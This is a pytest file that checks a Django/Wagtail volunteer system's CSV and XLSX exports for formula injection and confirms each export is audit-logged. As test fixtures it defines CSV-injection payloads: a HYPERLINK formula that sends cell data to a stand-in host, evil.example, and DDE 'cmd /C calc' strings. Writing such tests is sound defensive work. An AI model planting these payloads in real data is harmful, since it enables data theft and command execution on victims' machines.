"""Issue 9, finding 9: spreadsheet exports carry no formulas, and each export is audited.

The probe registered a last name `=HYPERLINK(…)` and a town `@SUM(…)`; the coordinator's
application export handed both unchanged to Excel or LibreOffice.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from accounts.audit import audit_log
from core.exports import FORMULA_PREFIXES
from tests.factories import role_user
from volunteers.models import Application
from volunteers.services import application_submit

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Lebenslauf")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+49 3644 cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(draft, applicant):
    """A submitted application whose applicant typed formulas into their data."""
    application_submit(application=draft, actor=applicant)
    Application.objects.filter(pk=draft.pk).update(
        first_name=MINUS, last_name=HYPERLINK, town=SUM, contact_email=PLUS)
    return Application.objects.get(pk=draft.pk)


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def assert_no_formula(rows) -> None:
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)), cell


def test_application_csv_export_neutralises_formulas(client, coordinator, poisoned):
    client.force_login(coordinator)
    url = reverse("wagtailsnippets_volunteers_application:list")
    rows = csv_rows(client.get(url, {"export": "csv"}))
    assert_no_formula(rows)
    data = rows[1]
    for payload in (HYPERLINK, SUM, PLUS, MINUS):
        assert "'" + payload in data  # kept readable, only defused


def test_application_xlsx_export_neutralises_formulas(client, coordinator, poisoned):
    client.force_login(coordinator)
    url = reverse("wagtailsnippets_volunteers_application:list")
    rows = xlsx_rows(client.get(url, {"export": "xlsx"}))
    assert_no_formula(rows)
    for payload in (HYPERLINK, SUM, PLUS, MINUS):
        assert "'" + payload in rows[1]


def test_host_export_neutralises_formulas_typed_by_staff_too(client, coordinator, hosts):
    hosts["apolda"].mentor_name = "=1+1"
    hosts["apolda"].save()
    client.force_login(coordinator)
    url = reverse("wagtailsnippets_volunteers_hostorganisation:list")
    assert_no_formula(csv_rows(client.get(url, {"export": "csv"})))


def test_each_export_is_recorded_in_the_audit_log(client, coordinator, poisoned):
    client.force_login(coordinator)
    url = reverse("wagtailsnippets_volunteers_application:list")
    client.get(url, {"export": "csv", "status": "submitted", "q": "calc"})
    client.get(url, {"export": "xlsx"})
    entries = list(ModelLogEntry.objects.filter(action="dk.export").order_by("pk"))
    assert len(entries) == 2
    first = entries[0]
    assert first.user_id == coordinator.pk
    assert first.data["export"] == "volunteers.application"
    assert first.data["format"] == "csv" and first.data["rows"] == 1
    assert first.data["filters"] == {"status": ["submitted"]}
    assert first.data["search"] is True and "calc" not in str(first.data)
    assert entries[1].data["format"] == "xlsx"


def test_audit_log_export_neutralises_names_of_the_records(client, poisoned):
    """Wagtail's own site history (our audit log) exports object titles: the applicant's
    name as well."""
    admin = role_user("admin@example.org", is_superuser=True, is_staff=True)
    audit_log(action="dk.application_status", user=admin, instance=poisoned,
              data={"to": "in_review"})
    client.force_login(admin)
    url = reverse("wagtailadmin_reports:site_history")
    rows = csv_rows(client.get(url, {"export": "csv"}))
    assert_no_formula(rows)
    assert any(cell.startswith("'" + MINUS) for row in rows for cell in row)
    assert_no_formula(xlsx_rows(client.get(url, {"export": "xlsx"})))
